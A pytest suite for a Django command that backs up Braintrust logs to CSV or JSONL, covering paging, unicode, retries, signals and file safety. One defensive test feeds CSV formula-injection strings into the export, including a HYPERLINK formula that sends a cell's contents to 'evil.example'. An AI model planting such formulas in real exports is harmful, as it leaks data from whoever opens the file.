"""backup_logs against the sandbox: real HTTP, real BTQL pages and cursors, real files."""

import json
import os
import signal
import stat
import time
from datetime import UTC, datetime, timedelta

import pytest
from django.core.management.base import CommandError
from freezegun import freeze_time
from structlog.testing import capture_logs

from braintrust_ops.btql_query import logs_filter
from braintrust_ops.clients.braintrust import BraintrustClient
from braintrust_ops.conf import load_config
from braintrust_ops.exceptions import AuthenticationFailed, TransientServiceError
from braintrust_ops.models import CommandRun
from braintrust_ops.services.backups import logs_backup
from braintrust_ops.tests.backup_readers import leftovers, read_csv, read_jsonl
from braintrust_ops.tests.special_files import SPECIAL_KINDS, make_special_file, snapshot
from braintrust_ops_sandbox import PROJECT_ID

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 11, 29, 1, 0, tzinfo=UTC)  # the weekly CronJob: Sunday 01:00 UTC
HEBREW = "מה ההלכה לגבי נטילת ידיים? 🙏"


@pytest.fixture
def backup_dir(tmp_path, ops_settings):
    directory = tmp_path / "backups"
    directory.mkdir()
    ops_settings(BACKUP_DIR=str(directory))
    return directory


@pytest.fixture
def empty_project(sandbox_env, backup_dir):
    """The sandbox with no logs: each test adds its own."""
    sandbox_env.state.clear_logs()
    return sandbox_env


def ago(**delta) -> datetime:
    return datetime.now(UTC) - timedelta(**delta)


def run_backup(run_command, *args):
    return run_command("backup_logs", *args)


def only_run() -> CommandRun:
    return CommandRun.objects.get(command="backup_logs")


def page_fault_after_first_page(client: BraintrustClient, install) -> None:
    """Call ``install()`` once the first BTQL page has arrived, so the fault hits the pages after it.

    A requests response hook (a public requests feature) only times the fault; the fault itself
    is the sandbox's, over real HTTP.
    """
    state = {"pages": 0}

    def hook(response, *args, **kwargs):
        if response.request.path_url.startswith("/btql"):
            state["pages"] += 1
            if state["pages"] == 1:
                install()

    client.session.hooks["response"].append(hook)


def service_backup(**overrides):
    config = load_config()
    client = overrides.pop("braintrust", None) or BraintrustClient.from_config(config)
    options = {"config": config, "braintrust": client, "fmt": "csv", "gzip": False, "root_only": False, "run": None}
    try:
        return logs_backup(**{**options, **overrides})
    finally:
        client.close()


# --- the window, the default file, the rows -------------------------------------------------------


def test_weekly_default_writes_last_seven_days_of_every_span_to_the_dated_file(empty_project, backup_dir, run_command):
    with freeze_time(NOW):
        empty_project.state.add_log(id="inside", input="question", created=NOW - timedelta(days=6, hours=23))
        empty_project.state.add_log(id="too-old", created=NOW - timedelta(days=7, seconds=1))
        empty_project.state.add_trace(input="a traced turn", output="answer", created=NOW - timedelta(hours=3))
        result = run_backup(run_command)
    path = backup_dir / "logs_backup_2026-11-29.csv"
    rows = read_csv(path)
    ids = {row["id"] for row in rows}
    assert "inside" in ids and "too-old" not in ids
    assert any(row["is_root"] == "false" for row in rows), "child spans are backed up too"
    queries = [body["query"] for body in empty_project.btql_bodies()]
    assert all(query["from"]["args"] == [{"op": "literal", "value": PROJECT_ID}] for query in queries)
    assert {json.dumps(query["filter"], sort_keys=True) for query in queries} == {
        json.dumps(logs_filter(since=NOW - timedelta(days=7), until=NOW, root_only=False), sort_keys=True)
    }
    assert f"to {path}" in result.stdout and f"Backed up {len(rows)} rows" in result.stdout


def test_days_option_narrows_the_window(empty_project, backup_dir, run_command):
    with freeze_time(NOW):
        empty_project.state.add_log(id="yesterday", created=NOW - timedelta(hours=20))
        empty_project.state.add_log(id="three-days-ago", created=NOW - timedelta(days=3))
        run_backup(run_command, "--days", "1")
    assert [row["id"] for row in read_csv(backup_dir / "logs_backup_2026-11-29.csv")] == ["yesterday"]


def test_backup_days_setting_sets_the_default_window(empty_project, backup_dir, run_command, ops_settings):
    ops_settings(BACKUP_DAYS="2")
    with freeze_time(NOW):
        empty_project.state.add_log(id="recent", created=NOW - timedelta(days=1))
        empty_project.state.add_log(id="older", created=NOW - timedelta(days=3))
        run_backup(run_command)
    assert [row["id"] for row in read_csv(backup_dir / "logs_backup_2026-11-29.csv")] == ["recent"]


def test_since_and_until_select_the_window_and_name_the_file_after_its_end(empty_project, backup_dir, run_command):
    empty_project.state.add_log(id="before", created=datetime(2026, 1, 1, tzinfo=UTC))
    empty_project.state.add_log(id="in", created=datetime(2026, 1, 5, tzinfo=UTC))
    empty_project.state.add_log(id="at-until", created=datetime(2026, 1, 8, tzinfo=UTC))
    run_backup(run_command, "--since", "2026-01-02", "--until", "2026-01-08T00:00:00Z")
    assert [row["id"] for row in read_csv(backup_dir / "logs_backup_2026-01-08.csv")] == ["in"]


def test_since_after_until_is_refused_before_any_request(empty_project, run_command):
    with pytest.raises(CommandError, match="must be before --until"):
        run_backup(run_command, "--since", "2026-01-08", "--until", "2026-01-02")
    assert empty_project.count("btql") == 0


def test_days_and_since_cannot_be_combined(empty_project, run_command):
    with pytest.raises(CommandError, match="not allowed with argument"):
        run_backup(run_command, "--days", "3", "--since", "2026-01-02")


def test_root_only_keeps_one_row_per_trace(empty_project, tmp_path, run_command):
    empty_project.state.add_trace(input="traced", output="answer", created=ago(hours=1))
    output = tmp_path / "roots.csv"
    run_backup(run_command, "--root-only", "--output", str(output))
    rows = read_csv(output)
    assert rows and all(row["is_root"] == "true" and row["span_parents"] in ("", "[]") for row in rows)
    assert all("is_root" in json.dumps(body["query"]["filter"]) for body in empty_project.btql_bodies())


def test_more_than_a_thousand_logs_are_read_across_every_page(empty_project, tmp_path, run_command):
    start = ago(days=2)
    empty_project.state.add_logs(2345, created=lambda i: start + timedelta(seconds=i), input="question")
    output = tmp_path / "all.csv"
    result = run_backup(run_command, "--output", str(output))
    ids = [row["id"] for row in read_csv(output)]
    assert len(ids) == len(set(ids)) == 2345
    # Pages of 100 (the first: nothing says yet how big a row is), 1000, 1000 and 245, then the empty page.
    assert empty_project.count("btql") == 5
    assert "Backed up 2,345 rows (4 pages)" in result.stdout
    assert only_run().counters["pages"] == 4


# --- what lands in the cells ----------------------------------------------------------------------


def test_nested_unicode_none_and_delimiters_reach_the_csv_intact(empty_project, tmp_path, run_command):
    conversation = {
        "messages": [
            {"role": "system", "content": "Answer from Sefaria's library."},
            {"role": "user", "content": HEBREW, "attachments": [{"refs": ["Berakhot 2a", None], "ok": True}]},
        ]
    }
    empty_project.state.add_log(
        id="rich",
        input=conversation,
        output='He said, "wash"; then\nbless.',
        expected=None,
        metadata={"session": {"user": {"locale": "he-IL", "flags": [1, 2.5, False]}}, "a,b": 'q"'},
        tags=["הלכה", "emoji 🕯️"],
        created=ago(hours=1),
    )
    output = tmp_path / "rich.csv"
    run_backup(run_command, "--output", str(output))
    [row] = read_csv(output)
    assert json.loads(row["input"]) == conversation
    assert row["output"] == 'He said, "wash"; then\nbless.'
    assert row["expected"] == ""
    assert json.loads(row["metadata"])["a,b"] == 'q"'
    assert json.loads(row["tags"]) == ["הלכה", "emoji 🕯️"]
    assert HEBREW.encode() in output.read_bytes()


def test_fields_outside_the_known_columns_go_into_the_extra_column(empty_project, tmp_path, run_command):
    empty_project.state.add_log(id="plain", created=ago(hours=2))
    empty_project.state.add_log(
        id="odd", created=ago(hours=1), **{"custom,field": {"x": "=1"}, "zz": None, "שדה": "ערך"}
    )
    output = tmp_path / "extra.csv"
    run_backup(run_command, "--output", str(output))
    rows = {row["id"]: row for row in read_csv(output)}
    assert rows["plain"]["extra"] == ""
    assert json.loads(rows["odd"]["extra"]) == {"custom,field": {"x": "=1"}, "zz": None, "שדה": "ערך"}
    assert list(json.loads(rows["odd"]["extra"])) == sorted(["custom,field", "zz", "שדה"])


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+972-50-000", "-1+2", "@SUM(1)", "\t=x", "\r=x"]
)
def test_chat_text_that_looks_like_a_formula_is_neutralised_in_the_csv(empty_project, tmp_path, run_command, text):
    empty_project.state.add_log(id="evil", input=text, output=text, created=ago(hours=1))
    output = tmp_path / "formula.csv"
    run_backup(run_command, "--output", str(output))
    [row] = read_csv(output)
    assert row["input"] == row["output"] == "'" + text


def test_jsonl_keeps_formula_text_and_every_field_untouched(empty_project, tmp_path, run_command):
    empty_project.state.add_log(
        id="evil", input="=1+1", output={"nested": [HEBREW, None]}, created=ago(hours=1), custom=7
    )
    output = tmp_path / "logs.jsonl"
    run_backup(run_command, "--format", "jsonl", "--output", str(output))
    [row] = read_jsonl(output)
    assert row["input"] == "=1+1" and row["output"] == {"nested": [HEBREW, None]} and row["custom"] == 7


def test_very_large_payloads_are_kept_whole_and_flagged_for_excel(empty_project, tmp_path, run_command):
    huge = "ש" * 1_500_000
    empty_project.state.add_log(id="huge", input=huge, output={"messages": [{"content": huge}]}, created=ago(hours=1))
    output = tmp_path / "huge.csv"
    result = run_backup(run_command, "--output", str(output))
    [row] = read_csv(output)
    assert row["input"] == huge
    assert "2 cells are longer than 32,767 characters" in result.stderr
    assert only_run().counters["oversized_cells"] == 2


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_gzip_default_name_and_round_trip(empty_project, backup_dir, run_command, fmt):
    with freeze_time(NOW):
        empty_project.state.add_logs(30, created=lambda i: NOW - timedelta(hours=i + 1), input=HEBREW)
        run_backup(run_command, "--format", fmt, "--gzip")
    path = backup_dir / f"logs_backup_2026-11-29.{fmt}.gz"
    rows = read_csv(path) if fmt == "csv" else read_jsonl(path)
    assert len(rows) == 30 and all(row["input"] == HEBREW for row in rows)
    assert os.listdir(backup_dir) == [path.name]


# --- the file as a whole --------------------------------------------------------------------------


def test_backup_file_is_private_and_no_temporary_file_remains(empty_project, backup_dir, run_command):
    with freeze_time(NOW):
        empty_project.state.add_log(id="only", created=NOW - timedelta(hours=1))
        run_backup(run_command)
    # The one file is the finished backup under its final name, not a temporary one left un-renamed.
    assert os.listdir(backup_dir) == ["logs_backup_2026-11-29.csv"]
    path = backup_dir / "logs_backup_2026-11-29.csv"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [row["id"] for row in read_csv(path)] == ["only"]


def test_existing_output_file_is_replaced_by_the_new_backup(empty_project, tmp_path, run_command):
    output = tmp_path / "weekly.csv"
    output.write_text("last week's content\n")
    empty_project.state.add_log(id="this-week", created=ago(hours=1))
    run_backup(run_command, "--output", str(output))
    assert [row["id"] for row in read_csv(output)] == ["this-week"]
    assert leftovers(tmp_path) == []


def test_temporary_file_left_by_a_killed_run_is_removed_and_logged_by_the_next(empty_project, backup_dir, run_command):
    stale = backup_dir / ".logs_backup_2026-11-22.csv.k1ll3d00.braintrust-backup.partial"
    stale.write_text("half of last week's rows")
    last_week = (NOW - timedelta(days=7)).timestamp()  # the run killed then; "now" is NOW below
    os.utime(stale, (last_week, last_week))
    with freeze_time(NOW):
        empty_project.state.add_log(created=NOW - timedelta(hours=1))
        with capture_logs() as events:
            run_backup(run_command)
    assert os.listdir(backup_dir) == ["logs_backup_2026-11-29.csv"]
    [removed] = [event for event in events if event["event"] == "logs_backup_stale_temporaries_removed"]
    assert removed["count"] == 1 and removed["directory"] == str(backup_dir)


def test_no_logs_in_range_says_so_writes_no_file_and_succeeds(empty_project, backup_dir, run_command):
    empty_project.state.add_log(id="old", created=ago(days=30))
    result = run_backup(run_command)
    assert "No logs" in result.stdout and "no file written" in result.stdout
    assert os.listdir(backup_dir) == []
    run = only_run()
    assert run.outcome == "succeeded" and run.counters["rows"] == 0 and run.counters["path"] == ""


def test_run_is_recorded_with_rows_bytes_path_pages_and_elapsed(empty_project, tmp_path, run_command):
    empty_project.state.add_logs(5, created=lambda i: ago(hours=i + 1))
    # The first page takes at least `delay` to arrive, so a timer that measures the export cannot read less.
    delay = 0.4
    empty_project.faults.add("btql", "latency", delay=delay, times=1)
    output = tmp_path / "run.csv"
    started = time.monotonic()
    result = run_backup(run_command, "--output", str(output), "--gzip")
    wall = time.monotonic() - started
    run = only_run()
    assert run.outcome == "succeeded" and run.finished_at is not None
    counters = run.counters
    assert (counters["rows"], counters["pages"], counters["path"]) == (5, 1, str(output))
    assert counters["bytes"] == output.stat().st_size
    # Seconds, measured across the export: at least the slow page, at most the whole command.
    assert delay <= counters["elapsed_seconds"] <= wall
    assert run.options == {"output": str(output), "format": "csv", "gzip": True}
    assert run.window_end - run.window_start == timedelta(days=7)
    assert f"{counters['bytes']:,} bytes" in result.stdout
    assert f"in {counters['elapsed_seconds']:.1f}s\n" in result.stdout


# --- failures leave nothing behind ----------------------------------------------------------------


def test_missing_settings_stop_before_any_request(sandbox_env, run_command, settings):
    settings.BRAINTRUST_OPS = {k: v for k, v in settings.BRAINTRUST_OPS.items() if k != "BRAINTRUST_PROJECT_ID"}
    with pytest.raises(CommandError, match="BRAINTRUST_PROJECT_ID is not set"):
        run_backup(run_command)
    assert sandbox_env.count("btql") == 0


def test_invalid_key_fails_at_once_and_writes_nothing(empty_project, backup_dir, run_command, ops_settings):
    empty_project.state.add_log(created=ago(hours=1))
    ops_settings(BRAINTRUST_API_KEY="bt-wrong-key-for-tests-000000")
    with pytest.raises(CommandError, match="Check BRAINTRUST_API_KEY"):
        run_backup(run_command)
    assert empty_project.requests == {"project": 1}  # refused on the first request, not retried
    assert os.listdir(backup_dir) == []
    assert only_run().outcome == "failed"


def test_unknown_project_fails_clearly_and_writes_nothing(empty_project, backup_dir, run_command, ops_settings):
    unknown = "00000000-0000-4000-8000-000000000000"
    ops_settings(BRAINTRUST_PROJECT_ID=unknown)
    with pytest.raises(CommandError, match=rf"no project {unknown} .* Check BRAINTRUST_PROJECT_ID"):
        run_backup(run_command)
    assert empty_project.requests == {"project": 1}
    assert os.listdir(backup_dir) == []
    assert only_run().outcome == "failed"


def test_server_errors_on_a_later_page_fail_the_backup_and_leave_no_file(empty_project, tmp_path, run_command):
    start = ago(days=1)
    empty_project.state.add_logs(2500, created=lambda i: start + timedelta(seconds=i))
    output = tmp_path / "backup.csv"
    output.write_text("last week's backup")
    client = BraintrustClient.from_config(load_config())
    page_fault_after_first_page(client, lambda: empty_project.faults.add("btql", "status", status=500, times=10))
    with pytest.raises(TransientServiceError, match="kept failing with HTTP 500 after 6 attempts"):
        service_backup(braintrust=client, output=str(output))
    assert empty_project.count("btql") == 1 + 6
    assert output.read_text() == "last week's backup" and leftovers(tmp_path) == []


def test_server_errors_that_outlast_the_retries_fail_the_command_non_zero(empty_project, backup_dir, run_command):
    empty_project.state.add_log(created=ago(hours=1))
    empty_project.faults.add("btql", "status", status=503, times=None)
    with pytest.raises(CommandError, match="HTTP 503 after 6 attempts.*No backup file was written"):
        run_backup(run_command)
    assert os.listdir(backup_dir) == []
    run = only_run()
    assert run.outcome == "failed" and "503" in run.error


def test_transient_faults_within_the_retries_still_produce_the_whole_file(empty_project, tmp_path, run_command):
    start = ago(days=1)
    empty_project.state.add_logs(1500, created=lambda i: start + timedelta(seconds=i))
    empty_project.faults.add("btql", "status", status=429, retry_after=0, times=1)
    empty_project.faults.add("btql", "drop", times=1)
    empty_project.faults.add("btql", "invalid_json", times=1)
    output = tmp_path / "backup.csv"
    run_backup(run_command, "--output", str(output))
    assert len(read_csv(output)) == 1500


def test_authentication_error_mid_stream_stops_at_once_and_leaves_no_file(empty_project, backup_dir):
    start = ago(days=1)
    empty_project.state.add_logs(2500, created=lambda i: start + timedelta(seconds=i))
    client = BraintrustClient.from_config(load_config())
    page_fault_after_first_page(client, lambda: empty_project.faults.add("btql", "status", status=401, times=None))
    with pytest.raises(AuthenticationFailed):
        service_backup(braintrust=client, output=str(backup_dir / "backup.csv"))
    assert empty_project.count("btql") == 2
    assert os.listdir(backup_dir) == []


def test_timeout_mid_stream_fails_after_retries_and_leaves_no_file(empty_project, backup_dir, ops_settings):
    ops_settings(HTTP_TIMEOUT_SECONDS="0.3", HTTP_MAX_RETRIES="1")
    start = ago(days=1)
    empty_project.state.add_logs(2500, created=lambda i: start + timedelta(seconds=i))
    client = BraintrustClient.from_config(load_config())
    page_fault_after_first_page(client, lambda: empty_project.faults.add("btql", "latency", delay=1.5, times=None))
    with pytest.raises(TransientServiceError, match="timed out after 2 attempts"):
        service_backup(braintrust=client, output=str(backup_dir / "backup.csv"))
    assert os.listdir(backup_dir) == []


@pytest.mark.parametrize("signum, code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_signal_mid_stream_removes_the_temporary_file_records_the_run_interrupted_and_exits_with_its_code(
    empty_project, backup_dir, run_command, monkeypatch, signum, code
):
    start = ago(days=1)
    empty_project.state.add_logs(2500, created=lambda i: start + timedelta(seconds=i))
    original = BraintrustClient.btql
    calls = []

    def signal_after_the_first_page(self, query):
        calls.append(query)
        if len(calls) == 2:  # Kubernetes stopping the pod while the backup streams
            os.kill(os.getpid(), signum)
        return original(self, query)

    monkeypatch.setattr(BraintrustClient, "btql", signal_after_the_first_page)
    with pytest.raises(CommandError, match="^Interrupted by SIG.*No backup file was written") as raised:
        run_backup(run_command, "--output", str(backup_dir / "backup.csv"))
    assert raised.value.returncode == code and "\n" not in str(raised.value)
    assert os.listdir(backup_dir) == []
    run = only_run()
    assert run.outcome == "interrupted" and run.error.startswith("Interrupted by SIG")


def test_unwritable_directory_fails_clearly_and_leaves_no_partial_file(empty_project, unwritable_dir, run_command):
    empty_project.state.add_logs(10, created=lambda i: ago(hours=i + 1))
    before = sorted(os.listdir(unwritable_dir))
    with pytest.raises(CommandError, match="Could not create a file in .*writable"):
        run_backup(run_command, "--output", str(unwritable_dir / "backup.csv"))
    assert sorted(os.listdir(unwritable_dir)) == before
    assert only_run().outcome == "failed"


def test_output_directory_that_does_not_exist_is_a_clear_error(empty_project, tmp_path, run_command):
    empty_project.state.add_log(created=ago(hours=1))
    with pytest.raises(CommandError, match="does not exist. Create it"):
        run_backup(run_command, "--output", str(tmp_path / "missing" / "backup.csv"))


@pytest.mark.parametrize("kind", SPECIAL_KINDS)
def test_output_that_is_not_a_regular_file_is_refused_in_one_line_before_any_request_and_left_untouched(
    empty_project, tmp_path, run_command, monkeypatch, kind
):
    empty_project.state.add_log(created=ago(hours=1))
    path = tmp_path / "backup.csv"
    make_special_file(kind, path, monkeypatch)
    before = snapshot(path)
    with pytest.raises(CommandError) as raised:
        run_backup(run_command, "--output", str(path))
    message = str(raised.value)
    assert message.startswith(f"The backup path {path} is {SPECIAL_KINDS[kind]}, not a regular file; it was left")
    assert "Give --output" in message and "\n" not in message
    assert raised.value.returncode == 1
    assert empty_project.requests == {}  # nothing asked of Braintrust
    assert snapshot(path) == before and leftovers(tmp_path) == []
    assert only_run().outcome == "failed"


def test_default_backup_path_that_is_a_link_is_refused_even_when_the_window_holds_no_logs(
    empty_project, backup_dir, run_command, monkeypatch
):
    with freeze_time(NOW):
        path = backup_dir / "logs_backup_2026-11-29.csv"
        make_special_file("symlink", path, monkeypatch)
        with pytest.raises(CommandError, match="is a symbolic link, not a regular file.*BRAINTRUST_OPS_BACKUP_DIR"):
            run_backup(run_command)
    assert path.is_symlink() and empty_project.requests == {}


@pytest.mark.parametrize("retry_after", [True, False], ids=["with_retry_after", "without_retry_after"])
def test_a_backup_of_many_pages_under_btql_s_rate_limit_completes(
    empty_project, tmp_path, run_command, ops_settings, retry_after
):
    """BTQL allows about 20 requests a minute on some plans, with or without Retry-After; here a minute is
    half a second and the page small, so a dozen pages meet the limit three times over."""
    start = ago(days=2)
    empty_project.state.add_logs(600, created=lambda i: start + timedelta(seconds=i), input="question")
    empty_project.rate_limits.set(
        "btql", requests=4, per_seconds=0.5 if not retry_after else 1, retry_after=retry_after
    )
    ops_settings(BTQL_PAGE_SIZE=50, HTTP_BACKOFF_SECONDS="0.02", HTTP_MAX_RETRIES=0)
    output = tmp_path / "limited.csv"
    result = run_backup(run_command, "--output", str(output))
    assert len(read_csv(output)) == 600 and "Backed up 600 rows (12 pages)" in result.stdout
    assert empty_project.rate_limited("btql") > 0  # the limit was met, and waited out
